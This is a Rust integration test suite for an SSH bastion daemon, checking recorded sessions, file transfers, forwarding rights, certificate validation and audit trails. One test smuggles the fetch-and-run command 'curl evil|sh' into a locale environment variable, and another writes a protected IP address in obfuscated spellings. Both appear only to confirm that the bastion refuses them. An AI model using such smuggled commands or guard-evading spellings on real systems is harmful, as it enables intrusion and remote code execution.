//! Audited SSH sessions end to end: real OpenSSH client → bastiond (russh) → real sshd, with the
//! upstream leg authenticated by a per-session certificate, and everything recorded.

// In test helpers a panic is the failure report.
#![allow(clippy::unwrap_used)]

use std::{
    io::Write,
    process::{Output, Stdio},
};

use bastion_core::{
    policy::Entity,
    protocol::Response,
    session::{SessionMeta, SessionState},
};
use bastion_lab::{
    Lab,
    bastiond::Bastiond,
    lab::grant,
    wait::{LIMIT, eventually},
};

mod common;

fn ok(b: &Bastiond, args: &[&str]) -> String {
    b.ctl_ok(args).expect("bastionctl succeeds")
}

/// Waits (bounded) until `n` sessions exist and all are closed; returns the session list
/// (newest first).
fn wait_all_closed(b: &Bastiond, n: usize) -> Vec<SessionMeta> {
    let mut last = Vec::new();
    eventually(&format!("{n} sessions, all closed"), LIMIT, || {
        last = common::sessions(b);
        (last.len() == n && last.iter().all(|s| s.state == SessionState::Closed))
            .then(|| last.clone())
    })
    .unwrap_or_else(|e| panic!("{e}: {last:?}"))
}

fn run(lab: &Lab, dest: &str, extra: &[&str], command: Option<&str>, stdin: &[u8]) -> Output {
    let mut cmd = lab.ssh_via_bastion(dest, extra).expect("ssh command");
    if let Some(c) = command {
        cmd.arg(c);
    }
    let mut child = cmd
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("ssh starts");
    let mut input = child.stdin.take().expect("stdin");
    let data = stdin.to_vec();
    let writer = std::thread::spawn(move || {
        let _ = input.write_all(&data);
    });
    let out = child.wait_with_output().expect("ssh finishes");
    writer.join().expect("stdin writer");
    out
}

fn sha256(data: &[u8]) -> String {
    let mut child = std::process::Command::new("sha256sum")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("sha256sum");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(data)
        .expect("write");
    let out = child.wait_with_output().expect("sha256sum");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_owned()
}

#[test]
fn exec_carries_stdio_and_exit_status_byte_exact_and_is_recorded() {
    let (lab, b) = Lab::with_alice().unwrap();
    // stdout, stderr and the exit status come back as the target produced them.
    let out = run(
        &lab,
        "root@web1",
        &[],
        Some("echo out; echo err >&2; exit 7"),
        b"",
    );
    assert_eq!(
        out.status.code(),
        Some(7),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.stdout, b"out\n");
    assert_eq!(String::from_utf8_lossy(&out.stderr).trim(), "err");

    // 4 MiB of random bytes through stdin and back: checksums match end to end.
    let mut data = vec![0u8; 4 << 20];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| std::io::Read::read_exact(&mut f, &mut data))
        .expect("random data");
    let out = run(&lab, "root@web1", &[], Some("cat"), &data);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.stdout.len(), data.len());
    assert_eq!(sha256(&out.stdout), sha256(&data));

    // The target saw bastion's per-session certificate, not the admin's key.
    let log = std::fs::read_to_string(&lab.info().hosts[0].sshd_log).expect("sshd log");
    assert!(
        log.contains("ED25519-CERT") && log.contains("ID bastion:alice:session-"),
        "sshd log:\n{log}"
    );

    // The record closes when bastiond sees the connection end, just after the client exits.
    let list = wait_all_closed(&b, 2);
    assert_eq!(list.len(), 2, "{list:?}");
    let cat = &list[0];
    assert_eq!(cat.state, SessionState::Closed);
    assert_eq!(cat.user, "alice");
    assert_eq!(cat.login, "root");
    assert_eq!(cat.target, "web1");
    assert_eq!(cat.bytes_in, data.len() as u64);
    assert_eq!(cat.bytes_out, data.len() as u64);

    let count = |args: &[&str]| common::sessions_where(&b, args).len();
    assert_eq!(
        count(&["--user", "alice", "--target", "web1", "--closed"]),
        2
    );
    assert_eq!(
        count(&["--target", "203.0.113.10", "--since", "2000-01-01"]),
        2
    );
    assert_eq!(count(&["--user", "nobody"]), 0);
    assert_eq!(count(&["--until", "2000-01-01T00:00:00Z"]), 0);
    assert_eq!(count(&["--live"]), 0);

    let first = list[1].id.to_string();
    let shown = ok(&b, &["session", "show", &first]);
    for want in [
        "exec echo out; echo err >&2; exit 7",
        "exit status 7",
        "close (0 bytes in, 8 bytes out)",
    ] {
        assert!(
            shown.contains(want),
            "session show lacks {want:?}:\n{shown}"
        );
    }
    let export: serde_json::Value =
        serde_json::from_str(&ok(&b, &["session", "export", &first, "--format", "json"])).unwrap();
    let kinds: Vec<&str> = export["frames"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["kind"].as_str().unwrap())
        .collect();
    for want in ["exec", "output", "stderr", "exit_status", "close"] {
        assert!(kinds.contains(&want), "{want} missing from {kinds:?}");
    }
    let audit = ok(&b, &["audit"]);
    assert!(
        audit.contains("login accepted for `root@web1`")
            && audit.contains("session")
            && audit.contains("started: alice as root@web1"),
        "{audit}"
    );
}

#[test]
fn interactive_shell_with_pty_replays_exactly_what_the_client_saw() {
    let (lab, b) = Lab::with_alice().unwrap();
    let out = run(
        &lab,
        "root@web1",
        &["-tt"],
        None,
        b"stty -echo; printf 'hello\\033[1mpty\\033[0m\\n'; exit 3\n",
    );
    assert_eq!(
        out.status.code(),
        Some(3),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(seen.contains("hello\x1b[1mpty\x1b[0m"), "{seen:?}");

    let id = wait_all_closed(&b, 1)[0].id.to_string();
    let cast = ok(&b, &["session", "export", &id]);
    let mut lines = cast.lines();
    let header: serde_json::Value = serde_json::from_str(lines.next().unwrap()).unwrap();
    assert_eq!(header["version"], 2);
    let replayed: String = lines
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|e| e[1] == "o")
        .map(|e| e[2].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        replayed, seen,
        "asciicast output differs from what the client received"
    );
    // `session play --no-wait` writes the same bytes.
    let played = b.ctl(&["session", "play", &id, "--no-wait"]).unwrap();
    assert_eq!(String::from_utf8_lossy(&played.stdout), seen);
}

#[test]
fn refusals_reach_the_client_in_one_line_and_are_audited() {
    let (lab, b) = Lab::with_alice().unwrap();
    let cases: &[(&str, &str)] = &[
        ("root@web9", "unknown target `web9`"),
        (
            "postgres@web1",
            "login `postgres` on web1 is not granted to alice",
        ),
        // A name without a target opens the self-service menu (tests/access.rs); an empty
        // target is refused.
        ("root@", "is not LOGIN@TARGET"),
        (
            "root@198.51.100.10",
            "198.51.100.10 is not in a protected subnet",
        ),
    ];
    for (dest, why) in cases {
        let out = run(&lab, dest, &["-o", "LogLevel=INFO"], Some("true"), b"");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(255), "{dest}: {stderr}");
        assert!(stderr.contains(why), "{dest}: {stderr:?} lacks {why:?}");
    }
    let audit = ok(&b, &["audit"]);
    for (_, why) in cases {
        assert!(audit.contains(why), "audit lacks {why:?}:\n{audit}");
    }
}

fn random_file(path: &std::path::Path, len: usize) -> String {
    let mut data = vec![0u8; len];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| std::io::Read::read_exact(&mut f, &mut data))
        .expect("random data");
    std::fs::write(path, &data).expect("write file");
    sha256(&data)
}

fn sha256_file(path: &std::path::Path) -> String {
    sha256(&std::fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())))
}

#[test]
fn scp_sftp_and_rsync_transfer_files_intact() {
    let (lab, b) = Lab::with_alice().unwrap();
    // web1's sshd runs on this machine's file system, so the test can check both ends directly.
    let dir = lab.info().run_dir.join("xfer");
    std::fs::create_dir_all(&dir).unwrap();
    let src = dir.join("src.bin");
    let sum = random_file(&src, 3 << 20);
    let remote = |name: &str| format!("root@web1@198.51.100.1:{}", dir.join(name).display());
    let port = ["-P".to_string(), "2222".to_string()];

    // scp, SFTP protocol (the default) and legacy (-O), up and down.
    for (mode, flag) in [("sftp", None), ("legacy", Some("-O"))] {
        let up = format!("up-{mode}.bin");
        let down = dir.join(format!("down-{mode}.bin"));
        let mut cmd = lab.command("admin", "scp").unwrap();
        cmd.args(flag)
            .args(&port)
            .args(lab.ssh_options())
            .arg(&src)
            .arg(remote(&up));
        common::assert_ok(&cmd.output().unwrap(), &format!("scp {mode} up"));
        assert_eq!(sha256_file(&dir.join(&up)), sum, "scp {mode} up");
        let mut cmd = lab.command("admin", "scp").unwrap();
        cmd.args(flag)
            .args(&port)
            .args(lab.ssh_options())
            .arg(remote(&up))
            .arg(&down);
        common::assert_ok(&cmd.output().unwrap(), &format!("scp {mode} down"));
        assert_eq!(sha256_file(&down), sum, "scp {mode} down");
    }

    // sftp in batch mode.
    let batch = dir.join("batch");
    std::fs::write(
        &batch,
        format!(
            "put {} {}\nget {} {}\n",
            src.display(),
            dir.join("up-b.bin").display(),
            dir.join("up-b.bin").display(),
            dir.join("down-b.bin").display()
        ),
    )
    .unwrap();
    let mut cmd = lab.command("admin", "sftp").unwrap();
    cmd.args(&port)
        .args(lab.ssh_options())
        .arg("-b")
        .arg(&batch)
        .arg("root@web1@198.51.100.1");
    common::assert_ok(&cmd.output().unwrap(), "sftp");
    assert_eq!(sha256_file(&dir.join("down-b.bin")), sum);

    // The sftp session recorded which files moved, and how many bytes.
    let sftp_id = wait_all_closed(&b, 5)[0].id.to_string();
    let export: serde_json::Value = serde_json::from_str(&ok(
        &b,
        &["session", "export", &sftp_id, "--format", "json"],
    ))
    .unwrap();
    let ops: Vec<&serde_json::Value> = export["frames"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "sftp_op")
        .map(|f| &f["json"])
        .collect();
    let up_b = dir.join("up-b.bin").display().to_string();
    let len = 3u64 << 20;
    assert!(
        ops.iter()
            .any(|o| o["op"] == "file" && o["path"] == up_b.as_str() && o["written"] == len),
        "upload missing from {ops:?}"
    );
    assert!(
        ops.iter()
            .any(|o| o["op"] == "file" && o["path"] == up_b.as_str() && o["read"] == len),
        "download missing from {ops:?}"
    );

    // rsync over ssh.
    let e = format!("ssh -p 2222 {}", lab.ssh_options().join(" "));
    let mut cmd = lab.command("admin", "rsync").unwrap();
    cmd.args(["-a", "-e", &e])
        .arg(&src)
        .arg(remote("up-rsync.bin"));
    common::assert_ok(&cmd.output().unwrap(), "rsync");
    assert_eq!(sha256_file(&dir.join("up-rsync.bin")), sum);

    // Every transfer was a recorded session; the SFTP ones show the subsystem.
    wait_all_closed(&b, 6);
    let audit = ok(&b, &["audit"]);
    assert!(!audit.contains("refused"), "{audit}");
}

/// Connects to 127.0.0.1:`port` from the admin host until the local listener is up (bounded);
/// returns what lab-connect printed.
fn connect_local(lab: &Lab, port: u16) -> String {
    let lab_connect = bastion_lab::sys::bin("lab-connect").unwrap();
    eventually(&format!("the local forward on port {port}"), LIMIT, || {
        let out = lab
            .command("admin", &lab_connect)
            .unwrap()
            .args(["127.0.0.1", &port.to_string()])
            .output()
            .unwrap();
        out.status
            .success()
            .then(|| String::from_utf8_lossy(&out.stdout).into_owned())
    })
    .unwrap()
}

#[test]
fn local_forwarding_follows_the_forward_right() {
    let (lab, b) = Lab::with_alice().unwrap();
    // A service on web1's loopback: not a protected address, so reached by an ordinary forward.
    let mut service = lab
        .command_unenforced("web1", bastion_lab::sys::bin("lab-connect").unwrap())
        .unwrap()
        .args(["--serve", "7070"])
        .spawn()
        .unwrap();
    let forward = |port: u16| {
        lab.ssh_via_bastion(
            "root@web1",
            &["-N", "-L", &format!("127.0.0.1:{port}:127.0.0.1:7070")],
        )
        .unwrap()
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
    };
    // alice's grant has no `forward`: the channel is refused, nothing reaches the target.
    let mut denied = forward(10022);
    let got = connect_local(&lab, 10022);
    assert!(!got.contains("lab-echo"), "forward must be refused: {got}");
    let _ = denied.kill();
    let _ = denied.wait();
    let audit = ok(&b, &["audit"]);
    assert!(
        audit
            .contains("forward to 127.0.0.1:7070 refused: forward is not granted to alice on web1"),
        "{audit}"
    );

    grant(&b, "alice-fwd", "alice", "web1", "root", "forward").unwrap();
    let mut allowed = forward(10023);
    let got = connect_local(&lab, 10023);
    assert!(
        got.contains("lab-echo"),
        "forward should reach web1's service: {got}"
    );
    let _ = allowed.kill();
    let _ = allowed.wait();
    // A forward to a protected address is no blind tunnel: bastiond answers it itself (the
    // inner session is signed in, authorized and recorded like any other).
    let mut to_protected = lab
        .ssh_via_bastion(
            "root@web1",
            &["-N", "-L", "127.0.0.1:10024:203.0.113.11:22"],
        )
        .unwrap()
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let got = connect_local(&lab, 10024);
    assert!(
        got.contains("SSH-2.0-") && !got.contains("OpenSSH"),
        "bastiond, not web2's sshd, answers: {got}"
    );
    let _ = to_protected.kill();
    let _ = to_protected.wait();
    let _ = service.kill();
    let _ = service.wait();
    let list = wait_all_closed(&b, 2);
    let id = list[0].id.to_string();
    let export = ok(&b, &["session", "export", &id, "--format", "json"]);
    assert!(export.contains("\"kind\":\"open\""), "{export}");
    // The forward's close frame carries its traffic: at least the service's greeting came back.
    let export: serde_json::Value = serde_json::from_str(&export).unwrap();
    assert!(
        export["frames"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["kind"] == "close" && f["json"]["bytes_out"].as_u64() > Some(0)),
        "{export}"
    );
}

/// A forward's destination is judged by the address it reaches, however it is spelled: web2
/// (203.0.113.11) in decimal, hex, as an IPv4-mapped IPv6 address or with a trailing dot is web2,
/// whose port 80 is no more reachable than when written plainly. A name is resolved by bastiond
/// and the target dials the address that was judged.
#[test]
fn forward_destinations_are_judged_by_the_address_they_reach() {
    let (lab, b) = Lab::with_alice().unwrap();
    grant(&b, "alice-fwd", "alice", "web1", "root", "forward").unwrap();
    for spelling in [
        "203.0.113.11",
        "3405803787",
        "0xcb.0.113.11",
        "0313.0.0161.013",
        "[::ffff:203.0.113.11]",
        "203.0.113.11.",
    ] {
        let out = lab
            .ssh_via_bastion(
                "root@web1",
                &["-o", "LogLevel=INFO", "-W", &format!("{spelling}:80")],
            )
            .unwrap()
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{spelling}: {err}");
        assert!(
            err.contains("only SSH to it is carried"),
            "{spelling}: {err}"
        );
    }
    let out = lab
        .ssh_via_bastion(
            "root@web1",
            &["-o", "LogLevel=INFO", "-W", "web2.invalid:80"],
        )
        .unwrap()
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("cannot resolve `web2.invalid`"), "{err}");

    // 0x7f.1 is 127.0.0.1: web1's own loopback service, reached as an ordinary forward.
    let mut service = lab
        .command_unenforced("web1", bastion_lab::sys::bin("lab-connect").unwrap())
        .unwrap()
        .args(["--serve", "7071"])
        .spawn()
        .unwrap();
    let mut forward = lab
        .ssh_via_bastion("root@web1", &["-N", "-L", "127.0.0.1:10025:0x7f.1:7071"])
        .unwrap()
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let got = connect_local(&lab, 10025);
    assert!(got.contains("lab-echo"), "{got}");
    let _ = forward.kill();
    let _ = forward.wait();
    let _ = service.kill();
    let _ = service.wait();
    let audit = ok(&b, &["audit"]);
    assert!(
        audit.contains("forward to 3405803787:80: 203.0.113.11 is protected"),
        "every refused spelling is audited as sent: {audit}"
    );
}

/// The target accepts `LANG` and `LC_*` (as Debian's sshd does). Only locale-shaped values
/// reach it: a command in `LC_X` is refused, audited and on record, like every variable asked for.
#[test]
fn env_requests_pass_only_locales_and_every_one_is_on_record() {
    let (lab, b) = Lab::with_alice().unwrap();
    let out = lab
        .ssh_via_bastion(
            "root@web1",
            &["-o", "SendEnv=LANG LC_X LC_TIME", "-o", "LogLevel=INFO"],
        )
        .unwrap()
        .env("LANG", "en_US.UTF-8")
        .env("LC_X", "curl evil|sh")
        .env("LC_TIME", "C")
        .arg("echo \"[$LANG][$LC_X][$LC_TIME]\"")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "[en_US.UTF-8][][C]",
        "{err}"
    );
    let list = wait_all_closed(&b, 1);
    let shown = ok(&b, &["session", "show", &list[0].id.to_string()]);
    assert!(shown.contains("env LANG=en_US.UTF-8"), "{shown}");
    assert!(shown.contains("env LC_TIME=C"), "{shown}");
    assert!(
        shown.contains(
            "refused: env LC_X=curl evil|sh: the value of `LC_X` does not look like a locale"
        ),
        "{shown}"
    );
    let audit = ok(&b, &["audit"]);
    assert!(audit.contains("env LC_X=curl evil|sh refused"), "{audit}");
}

#[test]
fn expired_and_out_of_window_grants_are_refused_with_their_reason() {
    let (lab, b) = Lab::with_alice().unwrap();
    lab.register_host(&b, 1).unwrap();
    ok(
        &b,
        &[
            "grant",
            "add",
            "old",
            "--user",
            "alice",
            "--target",
            "web2",
            "--login",
            "root",
            "--rights",
            "exec",
            "--not-after",
            "1000",
        ],
    );
    // A window on a weekday that is not today (UTC).
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let other_day =
        ["sun", "mon", "tue", "wed", "thu", "fri", "sat"][(((now / 86_400) + 4 + 3) % 7) as usize];
    ok(
        &b,
        &[
            "grant",
            "add",
            "office",
            "--user",
            "alice",
            "--target",
            "web2",
            "--login",
            "deploy",
            "--rights",
            "exec",
            "--window",
            &format!("{other_day} 00:00-24:00"),
        ],
    );
    for (dest, why) in [
        ("root@web2", "grant old expired"),
        ("deploy@web2", "grant office applies only during"),
    ] {
        let out = run(&lab, dest, &["-o", "LogLevel=INFO"], Some("true"), b"");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(255), "{dest}: {stderr}");
        assert!(stderr.contains(why), "{dest}: {stderr:?} lacks {why:?}");
    }
}

#[test]
fn ecdsa_and_rsa_client_keys_sign_in() {
    let (lab, b) = Lab::with_alice().unwrap();
    let dir = &lab.info().run_dir;
    for (user, kind, bits) in [("erin", "ecdsa", "256"), ("ralph", "rsa", "3072")] {
        let key = dir.join(format!("{user}_{kind}"));
        let st = std::process::Command::new("ssh-keygen")
            .args(["-q", "-t", kind, "-b", bits, "-N", "", "-f"])
            .arg(&key)
            .status()
            .unwrap();
        assert!(st.success());
        let public = key.with_extension("pub");
        let public = if public.exists() {
            public
        } else {
            std::path::PathBuf::from(format!("{}.pub", key.display()))
        };
        ok(
            &b,
            &[
                "user",
                "add",
                user,
                "--key",
                public.to_str().expect("UTF-8 path"),
            ],
        );
        ok(
            &b,
            &[
                "grant",
                "add",
                &format!("{user}-web1"),
                "--user",
                user,
                "--target",
                "web1",
                "--login",
                "root",
                "--rights",
                "exec",
            ],
        );
        let out = run(
            &lab,
            "root@web1",
            &["-i", key.to_str().expect("UTF-8 path")],
            Some("echo signed-in"),
            b"",
        );
        assert_eq!(
            String::from_utf8_lossy(&out.stdout).trim(),
            "signed-in",
            "{user}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let audit = ok(&b, &["audit"]);
    assert!(
        audit.contains("(user erin)") && audit.contains("(user ralph)"),
        "{audit}"
    );
}

/// Runs `ssh-keygen args` (keys, certificates), which must succeed.
fn keygen(args: &[&str]) {
    let out = std::process::Command::new("ssh-keygen")
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "ssh-keygen {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn user_certificates_from_a_trusted_ca_sign_in_with_principal_and_validity_checked() {
    let (lab, b) = Lab::with_alice().unwrap();
    let dir = lab.info().run_dir.join("user-ca");
    std::fs::create_dir_all(&dir).unwrap();
    let p = |name: &str| dir.join(name).to_str().expect("UTF-8 path").to_owned();
    keygen(&[
        "-q",
        "-t",
        "ed25519",
        "-N",
        "",
        "-C",
        "corp user CA",
        "-f",
        &p("ca"),
    ]);
    // carol has no registered key at all: only her organisation's CA.
    ok(&b, &["user", "add", "carol", "--ca", &p("ca.pub")]);
    grant(&b, "carol-web1", "carol", "web1", "root", "exec").unwrap();
    let cases = [
        ("good", "carol", "-5m:+10m", true),
        ("expired", "carol", "20200101:20200102", false),
        ("otherprincipal", "mallory", "-5m:+10m", false),
    ];
    for (name, principal, validity, should_work) in cases {
        keygen(&["-q", "-t", "ed25519", "-N", "", "-f", &p(name)]);
        keygen(&[
            "-q",
            "-s",
            &p("ca"),
            "-I",
            &format!("{name}@corp"),
            "-n",
            principal,
            "-V",
            validity,
            &p(&format!("{name}.pub")),
        ]);
        // Only this key and its certificate: the lab's admin key (alice's) must not be offered.
        let out = lab
            .ssh_via_bastion_as(&dir.join(name), "root@web1", &[])
            .unwrap()
            .arg("echo via-cert")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let worked = String::from_utf8_lossy(&out.stdout).trim() == "via-cert";
        assert_eq!(
            worked,
            should_work,
            "{name}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    // OpenSSH offers the plain key before its certificate; that is not a failed sign-in, so
    // many certificate logins in a row (Ansible) never throttle the source.
    for i in 0..25 {
        let out = lab
            .ssh_via_bastion_as(&dir.join("good"), "root@web1", &[])
            .unwrap()
            .arg("true")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "certificate login {i} refused: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let audit = ok(&b, &["audit", "--limit", "1000"]);
    assert!(audit.contains("(user carol)"), "{audit}");
    assert!(
        audit.contains("no user trusts this certificate's CA with a matching principal"),
        "wrong-principal refusal reason missing:\n{audit}"
    );
}

/// A certificate is honoured in full: its critical options (`force-command`, `source-address`,
/// anything else refuses it), its extensions (what it does not permit is refused whatever the
/// grant allows) and revocations by serial.
#[test]
fn user_certificates_are_honoured_in_full() {
    let (lab, b) = Lab::with_alice().unwrap();
    let dir = lab.info().run_dir.join("user-ca-full");
    std::fs::create_dir_all(&dir).unwrap();
    let p = |name: &str| dir.join(name).to_str().expect("UTF-8 path").to_owned();
    keygen(&["-q", "-t", "ed25519", "-N", "", "-f", &p("ca")]);
    ok(&b, &["user", "add", "carol", "--ca", &p("ca.pub")]);
    // A key identifies one person: alice's cannot be registered to mallory too.
    let alice_key = lab.info().admin_key_pub.to_str().unwrap().to_owned();
    let out = b
        .ctl(&["user", "add", "mallory", "--key", &alice_key])
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("already registered to user `alice`"),
        "{out:?}"
    );
    grant(
        &b,
        "carol-web1",
        "carol",
        "web1",
        "root",
        "shell,exec,sftp,forward",
    )
    .unwrap();
    let cert = |name: &str, options: &[&str]| {
        keygen(&["-q", "-t", "ed25519", "-N", "", "-f", &p(name)]);
        let ca = p("ca");
        let mut args = vec!["-q", "-s", &ca, "-I", name, "-n", "carol"];
        args.extend(options.iter().flat_map(|o| ["-O", o]));
        let public = p(&format!("{name}.pub"));
        args.push(&public);
        keygen(&args);
    };
    let run = |name: &str, extra: &[&str], command: &str| {
        lab.ssh_via_bastion_as(&dir.join(name), "root@web1", extra)
            .unwrap()
            .arg(command)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let said = |out: &Output| {
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    };

    cert("forced", &["force-command=echo forced-ok"]);
    assert_eq!(
        String::from_utf8_lossy(&run("forced", &[], "echo forced-ok").stdout).trim(),
        "forced-ok"
    );
    let out = run("forced", &[], "id");
    assert!(
        !out.status.success() && !said(&out).contains("uid="),
        "{}",
        said(&out)
    );

    cert("elsewhere", &["source-address=203.0.113.0/24"]);
    assert!(!run("elsewhere", &[], "true").status.success());

    cert("unknown", &["critical:no-such-option=1"]);
    assert!(!run("unknown", &[], "true").status.success());

    cert("nopty", &["no-pty"]);
    let out = run("nopty", &["-tt"], "echo no-pty-ok");
    assert!(
        said(&out).contains("PTY allocation request failed"),
        "{}",
        said(&out)
    );
    let out = run("nopty", &[], "echo no-pty-ok");
    assert!(said(&out).contains("no-pty-ok"), "{}", said(&out));

    cert("noforward", &["no-port-forwarding"]);
    let out = lab
        .ssh_via_bastion_as(
            &dir.join("noforward"),
            "root@web1",
            &["-o", "LogLevel=INFO", "-W", "127.0.0.1:22"],
        )
        .unwrap()
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(
        said(&out).contains("does not permit port forwarding"),
        "{}",
        said(&out)
    );

    // Revoked by serial: refused until the revocation is lifted.
    keygen(&["-q", "-t", "ed25519", "-N", "", "-f", &p("laptop")]);
    keygen(&[
        "-q",
        "-s",
        &p("ca"),
        "-I",
        "laptop",
        "-n",
        "carol",
        "-z",
        "4242",
        &p("laptop.pub"),
    ]);
    assert!(run("laptop", &[], "true").status.success());
    ok(
        &b,
        &[
            "user",
            "ca",
            "revoke",
            "lost-laptop",
            "--serial",
            "4242",
            "--ca",
            &p("ca.pub"),
        ],
    );
    assert!(ok(&b, &["user", "ca", "revoked"]).contains("serial 4242"));
    assert!(!run("laptop", &[], "true").status.success());
    ok(&b, &["user", "ca", "unrevoke", "lost-laptop"]);
    assert!(run("laptop", &[], "true").status.success());

    let audit = ok(&b, &["audit", "--limit", "1000"]);
    for reason in [
        "source-address (203.0.113.0/24) does not include 198.51.100.10",
        "critical option `no-such-option`",
        "(no permit-pty)",
        "is revoked (lost-laptop)",
        "allows only the command `echo forced-ok`",
    ] {
        assert!(audit.contains(reason), "{reason} not audited:\n{audit}");
    }
}

#[test]
fn agent_forwarding_follows_the_agent_right() {
    let (lab, b) = Lab::with_alice().unwrap();
    let dir = lab.info().run_dir.clone();
    let sock = dir.join("agent.sock");
    // An ssh-agent on the admin host, holding a key bastion knows nothing about.
    let mut agent = lab
        .command("admin", "ssh-agent")
        .unwrap()
        .args(["-D", "-a"])
        .arg(&sock)
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    eventually("the agent's socket", LIMIT, || sock.exists().then_some(())).unwrap();
    let key = dir.join("agent_ed25519");
    bastion_lab::sshd::keygen(&key, "in-the-agent").unwrap();
    let added = std::process::Command::new("ssh-add")
        .arg(&key)
        .env("SSH_AUTH_SOCK", &sock)
        .output()
        .unwrap();
    assert!(
        added.status.success(),
        "{}",
        String::from_utf8_lossy(&added.stderr)
    );
    let list_remote = || {
        let mut cmd = lab.ssh_via_bastion("root@web1", &["-A"]).unwrap();
        cmd.env("SSH_AUTH_SOCK", &sock)
            .arg("ssh-add -l")
            .stdin(Stdio::null());
        cmd.output().unwrap()
    };

    // Not granted: the target gets no agent.
    let out = list_remote();
    assert!(
        !String::from_utf8_lossy(&out.stdout).contains("in-the-agent"),
        "{out:?}"
    );
    assert!(ok(&b, &["audit"]).contains("agent refused: agent is not granted to alice on web1"));

    grant(&b, "alice-agent", "alice", "web1", "root", "exec,agent").unwrap();
    let out = list_remote();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("in-the-agent"),
        "the target should see the forwarded agent: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let _ = agent.kill();
    let _ = agent.wait();
}

#[test]
fn several_channels_share_one_connection_and_one_session_record() {
    let (lab, b) = Lab::with_alice().unwrap();
    let ctl = lab.info().run_dir.join("mux.sock");
    let ctl_opt = format!("ControlPath={}", ctl.display());
    // A master connection, then three commands over it, two of them at the same time.
    let mut master = lab
        .ssh_via_bastion("root@web1", &["-M", "-N", "-o", &ctl_opt])
        .unwrap()
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    eventually("the master's control socket", LIMIT, || {
        ctl.exists().then_some(())
    })
    .unwrap();
    let over_master = |cmd: &str| {
        lab.ssh_via_bastion("root@web1", &["-o", &ctl_opt])
            .unwrap()
            .arg(cmd)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap()
    };
    let a = over_master("sleep 0.5; echo first");
    let c = over_master("echo second");
    let a = a.wait_with_output().unwrap();
    let c = c.wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&a.stdout).trim(), "first");
    assert_eq!(String::from_utf8_lossy(&c.stdout).trim(), "second");
    let third = over_master("echo third").wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&third.stdout).trim(), "third");
    let _ = master.kill();
    let _ = master.wait();

    let list = wait_all_closed(&b, 1);
    let id = list[0].id.to_string();
    let export: serde_json::Value =
        serde_json::from_str(&ok(&b, &["session", "export", &id, "--format", "json"])).unwrap();
    let channels: std::collections::BTreeSet<u64> = export["frames"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "exec")
        .map(|f| f["channel"].as_u64().unwrap())
        .collect();
    assert_eq!(
        channels.len(),
        3,
        "three exec channels in one session record: {channels:?}"
    );
}

#[test]
fn a_fetched_host_key_is_pinned_only_once_confirmed() {
    let (lab, b) = Lab::with_alice().unwrap();
    // Not confirmed (no terminal, no --yes): shown, refused, nothing stored.
    let out = b
        .ctl(&["target", "add", "web2", "203.0.113.11", "--fetch-host-key"])
        .unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("203.0.113.11:22 presents ssh-ed25519 SHA256:"),
        "{stderr}"
    );
    assert!(stderr.contains("host key not confirmed"), "{stderr}");
    assert!(!ok(&b, &["target", "list"]).contains("web2"));

    ok(
        &b,
        &[
            "target",
            "add",
            "web2",
            "203.0.113.11",
            "--fetch-host-key",
            "--yes",
